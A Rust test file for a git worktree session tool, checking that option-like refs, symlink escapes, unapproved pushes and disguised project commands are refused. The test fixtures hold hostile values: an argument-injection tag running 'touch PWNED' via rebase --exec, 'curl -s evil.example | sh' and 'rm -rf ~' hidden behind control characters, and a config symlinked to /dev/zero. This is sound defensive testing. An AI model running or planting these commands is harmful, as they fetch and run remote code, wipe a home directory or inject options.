//! Issue 10's security items: nothing a repository ships runs, writes or
//! pushes without approval, and nothing from it reaches a git command line as
//! an option.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use crate::common::{TestEnv, stderr_of, write_file};

/// A tag git would read as `--exec=touch PWNED`: `rebase` runs it in the
/// worktree after each commit.
const HOSTILE: &str = "--exec=touch${IFS}PWNED";

fn hostile_tag(env: &TestEnv) {
    env.git(&["update-ref", &format!("refs/tags/{HOSTILE}"), "HEAD"]);
}

fn mode(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o777
}

// Item 1: a base that reads as an option is refused before anything changes.
#[test]
fn a_base_that_reads_as_an_option_is_refused_and_runs_nothing() {
    let env = TestEnv::new();
    hostile_tag(&env);
    let err = env.exits_with(&["new", "x", "--no-agent", &format!("--base={HOSTILE}")], 2);
    assert!(err.contains("starts with '-'"), "{err}");

    env.write(".sessions.toml", &format!("base = \"{HOSTILE}\"\n"));
    let err = env.exits_with(&["new", "y", "--no-agent"], 2);
    assert!(err.contains("`base`") && err.contains("line 1"), "{err}");
    assert!(env.registry_bytes().is_empty());
    assert_eq!(env.branches(), ["main"]);
    assert!(!env.sessions_dir().exists());
}

// Item 1: `sessions new x -- args` still hands `--` arguments to the agent,
// and names and branches that read as options are still refused.
#[test]
fn names_and_branches_that_read_as_options_are_refused() {
    let env = TestEnv::new();
    env.exits_with(&["new", "-x", "--no-agent"], 2);
    env.exits_with(&["new", "x", "--no-agent", "--branch=--exec=x"], 2);
    env.write(".sessions.toml", "branch_prefix = \"--exec=\"\n");
    env.exits_with(&["new", "x", "--no-agent"], 2);
    fs::remove_file(env.repo.join(".sessions.toml")).unwrap();
    assert_eq!(env.branches(), ["main"]);
    env.user_config("[agent]\ncommand = \"true\"\n");
    env.sessions()
        .args(["new", "x", "--", "--print", "-p"])
        .assert()
        .success();
    assert_eq!(env.session_names(), ["x"]);
}

// Item 1, the sync case: a base recorded before validation (an older
// registry) must reach `git rebase` as a commit, never as an option. This
// needs the sync/land helper's fix (`rebase`/`merge` given object ids).
#[test]
fn sync_never_runs_a_base_as_an_option() {
    let env = TestEnv::new();
    let path = env.new_session("x");
    env.commit_in(&path, "x.txt", "x\n", "work on x");
    env.commit_in(&env.repo, "main.txt", "main\n", "main moves on");
    hostile_tag(&env);
    // With an upstream, a bare `git rebase --exec=...` has something to do.
    env.git(&["config", "branch.x.remote", "."]);
    env.git(&["config", "branch.x.merge", "refs/heads/main"]);
    let registry = fs::read_to_string(env.registry_file()).unwrap();
    let tampered = registry.replace("base = \"main\"", &format!("base = \"{HOSTILE}\""));
    assert_ne!(registry, tampered);
    fs::write(env.registry_file(), tampered).unwrap();

    let _ = env.sessions().args(["sync", "x"]).output().unwrap();
    let _ = env
        .sessions()
        .args(["sync", "x", "--merge"])
        .output()
        .unwrap();
    assert!(!path.join("PWNED").exists(), "sync ran the base as --exec");
    assert!(!env.repo.join("PWNED").exists());
}

// Item 2: a project may not place worktrees outside the repository's area
// without approval; with it, still never inside `.git`.
#[test]
fn a_project_worktree_dir_outside_the_repository_area_needs_approval() {
    let env = TestEnv::new();
    env.write(".sessions.toml", "worktree_dir = \"~/.local/bin/{name}\"\n");
    let out = env
        .sessions()
        .args(["new", "x", "--no-agent"])
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("needs approval"), "{err}");
    assert_eq!(
        env.listed("x")["path"],
        env.sessions_dir().join("x").to_str().unwrap()
    );
    assert!(!env.home.join(".local").exists());

    env.sessions().args(["trust", "--yes"]).assert().success();
    env.new_session("y");
    assert!(env.home.join(".local/bin/y/README.md").is_file());

    env.write(
        ".sessions.toml",
        "worktree_dir = \".git/worktrees/{name}\"\n",
    );
    env.new_session("z");
    assert!(!env.git_dir().join("worktrees/z/README.md").exists());
    env.sessions().args(["trust", "--yes"]).assert().success();
    let err = env.exits_with(&["new", "w", "--no-agent"], 2);
    assert!(err.contains("inside git's folder"), "{err}");
    assert!(!env.branches().contains(&"w".to_string()));

    // The user's own file may place worktrees anywhere but in `.git` either.
    fs::remove_file(env.repo.join(".sessions.toml")).unwrap();
    env.user_config("worktree_dir = \"./.git/x/{name}\"\n");
    env.exits_with(&["new", "v", "--no-agent"], 2);
    assert!(!env.git_dir().join("x").exists());

    // A placeholder undone by `..` would put every session in one folder.
    env.write(
        ".sessions.toml",
        "worktree_dir = \"~/{name}/../.local/bin\"\n",
    );
    let err = env.exits_with(&["new", "u", "--no-agent"], 2);
    assert!(err.contains("worktree_dir"), "{err}");
}

// Item 2: a harmless-looking project template that leads out through a
// symbolic link the repository ships is refused.
#[test]
fn a_project_worktree_dir_through_a_symlink_is_refused() {
    let env = TestEnv::new();
    let outside = env.root().join("outside");
    fs::create_dir_all(&outside).unwrap();
    symlink(&outside, env.repo.join("trees")).unwrap();
    env.git(&["add", "trees"]);
    env.git(&["commit", "-q", "-m", "a link"]);
    env.write(".sessions.toml", "worktree_dir = \"trees/{name}\"\n");
    let err = env.exits_with(&["new", "x", "--no-agent"], 2);
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
    assert_eq!(env.branches(), ["main"]);
}

// Item 3: copying ignored files never writes through a link the checkout
// made.
#[test]
fn copy_never_writes_through_a_symlink_in_the_new_checkout() {
    let env = TestEnv::new();
    let outside = env.root().join("outside");
    fs::create_dir_all(&outside).unwrap();
    env.write(".gitignore", "*.log\ntarget/\n.env\n");
    env.git(&["add", ".gitignore"]);
    env.git(&["commit", "-q", "-m", "ignore .env"]);
    // Branch `evil` has `secrets` as a link out of the repository...
    env.git(&["switch", "-q", "-c", "evil"]);
    symlink(&outside, env.repo.join("secrets")).unwrap();
    env.git(&["add", "secrets"]);
    env.git(&["commit", "-q", "-m", "a link"]);
    env.git(&["switch", "-q", "main"]);
    // ...while the main worktree has a real folder with a secret in it.
    env.write("secrets/.env", "TOKEN=1\n");
    env.user_config("copy = [\"secrets/.env\"]\n");
    let out = env
        .sessions()
        .args(["new", "x", "--no-agent", "--base", "evil"])
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0, "{err}");
    assert!(out.status.success(), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
}

// Item 4: approval covers where each argument ends, and every project value
// that changes what runs, where it writes, or what leaves the machine.
#[test]
fn approval_keeps_argument_boundaries_and_covers_push_and_placement() {
    let env = TestEnv::new();
    let needs_approval = |text: &str| {
        env.write(".sessions.toml", text);
        let out = env.sessions().arg("trust").output().unwrap();
        // Without a terminal, `trust` exits 0 only when approved already.
        !out.status.success()
    };
    let first = "[agent]\ncommand = \"claude\"\nargs = [\"--model x\"]\n";
    assert!(needs_approval(first));
    env.sessions().args(["trust", "--yes"]).assert().success();
    assert!(!needs_approval(first));
    assert!(needs_approval(
        "[agent]\ncommand = \"claude\"\nargs = [\"--model\", \"x\"]\n"
    ));
    assert!(needs_approval(&format!("{first}[land]\npush = true\n")));
    assert!(needs_approval(&format!(
        "worktree_dir = \"~/w/{{name}}\"\n{first}"
    )));
    assert!(!needs_approval(&format!(
        "worktree_dir = \"../w/{{name}}\"\n{first}"
    )));
}

// Item 5: `claude install` keeps the file's mode for it and its backup, and
// writes through a symlinked settings file.
#[test]
fn claude_install_keeps_mode_and_symlinks() {
    let env = TestEnv::new();
    let install = |dir: &Path| {
        env.sessions()
            .env("CLAUDE_CONFIG_DIR", dir)
            .args(["claude", "install"])
            .assert()
            .success();
    };
    let plain = env.root().join("plain");
    let file = plain.join("settings.json");
    write_file(&file, "{\"model\": \"opus\"}\n");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    install(&plain);
    assert!(fs::read_to_string(&file).unwrap().contains("hook"));
    assert_eq!(mode(&file), 0o600);
    assert_eq!(mode(&plain.join("settings.json.bak")), 0o600);

    let linked = env.root().join("linked");
    let real = env.root().join("dotfiles/settings.json");
    write_file(&real, "{\"model\": \"opus\"}\n");
    fs::set_permissions(&real, fs::Permissions::from_mode(0o600)).unwrap();
    fs::create_dir_all(&linked).unwrap();
    let link = linked.join("settings.json");
    symlink(&real, &link).unwrap();
    install(&linked);
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let text = fs::read_to_string(&real).unwrap();
    assert!(text.contains("hook") && text.contains("opus"), "{text}");
    assert_eq!(mode(&real), 0o600);

    // A link the repository ships is not followed for project settings.
    let user_settings = env.home.join(".claude/settings.json");
    write_file(&user_settings, "{}\n");
    fs::create_dir_all(env.repo.join(".claude")).unwrap();
    symlink(&user_settings, env.repo.join(".claude/settings.local.json")).unwrap();
    env.exits_with(&["claude", "install", "--project"], 2);
    assert_eq!(fs::read_to_string(&user_settings).unwrap(), "{}\n");
}

// Item 6: a project's `land.push = true` pushes only once approved.
#[test]
fn a_project_land_push_needs_approval() {
    let env = TestEnv::cloned();
    let origin = env.origin();
    env.write(".sessions.toml", "[land]\npush = true\n");
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "push after landing"]);
    env.git(&["push", "-q", "origin", "main"]);
    let remote_main = || env.git_in(&origin, &["rev-parse", "main"]);

    let path = env.new_session("x");
    env.commit_in(&path, "x.txt", "x\n", "work on x");
    let before = remote_main();
    // Kept: unpushed, its commits exist nowhere else, so removal would refuse.
    let out = env
        .sessions()
        .args(["land", "x", "--keep"])
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("land.push"), "{err}");
    assert_eq!(remote_main(), before, "pushed without approval");

    env.sessions().args(["trust", "--yes"]).assert().success();
    let path = env.new_session("y");
    env.commit_in(&path, "y.txt", "y\n", "work on y");
    env.sessions().args(["land", "y"]).assert().success();
    assert_eq!(remote_main(), env.git(&["rev-parse", "main"]));
}

// Item 23: an ignored nested repository matched by `copy` is skipped.
#[test]
fn an_ignored_nested_repository_is_skipped_with_a_warning() {
    let env = TestEnv::new();
    let nested = env.repo.join("target/lib");
    fs::create_dir_all(&nested).unwrap();
    env.git_in(&nested, &["init", "-q"]);
    write_file(&nested.join("a.txt"), "a\n");
    write_file(&env.repo.join("debug.log"), "log\n");
    env.user_config("copy = [\"target/\", \"*.log\"]\n");
    let out = env
        .sessions()
        .args(["new", "x", "--no-agent"])
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("target/lib"), "{err}");
    let path = env.sessions_dir().join("x");
    assert!(path.join("debug.log").is_file());
}

// Item 25: a submodule's sessions go beside the superproject, not into it.
#[test]
fn a_submodules_sessions_go_beside_the_superproject() {
    let env = TestEnv::new();
    let outer = env.root().join("work/app");
    fs::create_dir_all(&outer).unwrap();
    env.git_in(&outer, &["init", "-q", "-b", "main"]);
    env.git_in(
        &outer,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            env.repo.to_str().unwrap(),
            "lib",
        ],
    );
    env.git_in(&outer, &["commit", "-q", "-m", "a submodule"]);
    let lib = outer.join("lib");
    let out = env
        .sessions_in(&lib)
        .args(["new", "x", "--no-agent"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let path = env.root().join("work/lib.sessions/x");
    assert!(path.join("README.md").is_file());
    assert_eq!(env.git_in(&outer, &["status", "--porcelain"]), "");
}

// Found by a second adversarial pass, after the items above were fixed.

// Item 4 by another path: what approval shows must be what is approved. A
// carriage return or an escape sequence in a project command lets the file
// redraw the review line, so the person reads `npm ci` and approves a
// download piped into a shell.
#[test]
fn the_trust_review_cannot_be_redrawn_by_control_characters() {
    let env = TestEnv::new();
    env.write(
        ".sessions.toml",
        "setup = [\"curl -s evil.example | sh \\r  setup: npm ci\"]\n\
         teardown = [\"rm -rf ~ \\u001b[2K\\r  teardown: make clean\"]\n\
         [land]\ncheck = [\"true \\u001b[1A\"]\n",
    );
    let out = env.sessions().args(["trust"]).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("evil.example"), "{shown}{}", stderr_of(&out));
    assert!(
        !shown.contains(['\r', '\u{1b}']),
        "the review shows raw control characters: {shown:?}"
    );
}

// Symlinks a repository ships: `.worktreeinclude` is read only as a plain
// file, but `.sessions.toml` is followed wherever it leads. Linked to
// /dev/zero, every `sessions` command in the clone reads until memory runs
// out (here, under a 300 MB limit, "out of memory"; unlimited, the machine's
// memory); linked to /dev/tty, it hangs. A link must not be followed.
#[test]
fn a_project_file_that_is_a_symlink_is_not_followed() {
    let env = TestEnv::new();
    symlink("/dev/zero", env.repo.join(".sessions.toml")).unwrap();
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "a project file that never ends"]);
    let bin = env!("CARGO_BIN_EXE_sessions");
    let out = env
        .command_in("sh", &env.repo)
        .arg("-c")
        .arg(format!("ulimit -v 300000; exec '{bin}' config"))
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(!err.contains("out of memory"), "{err}");
    assert!(
        matches!(out.status.code(), Some(0 | 2)) && err.contains("symbolic link"),
        "a linked .sessions.toml must be ignored or refused, naming the link: {:?} {err}",
        out.status
    );
}

// Item 4 by another path: a project's empty `land.check` replaces the
// user's own checks, without approval (`sessions trust` says nothing needs
// it), so a cloned repository silently turns off the gate the user set for
// landing. Taking the user's checks away changes what runs before a land.
#[test]
fn a_project_cannot_switch_off_the_users_land_checks_unapproved() {
    let env = TestEnv::new();
    env.user_config("[land]\ncheck = [\"false\"]\n");
    env.write(".sessions.toml", "[land]\ncheck = []\n");
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "no checks"]);
    let main_before = env.git(&["rev-parse", "main"]);
    let path = env.new_session("s");
    env.commit_in(&path, "work.txt", "work\n", "work");
    let out = env.sessions().args(["land", "s"]).output().unwrap();
    assert!(
        !out.status.success(),
        "landed although the user's check `false` never ran: {}",
        stderr_of(&out)
    );
    assert_eq!(env.git(&["rev-parse", "main"]), main_before);
}
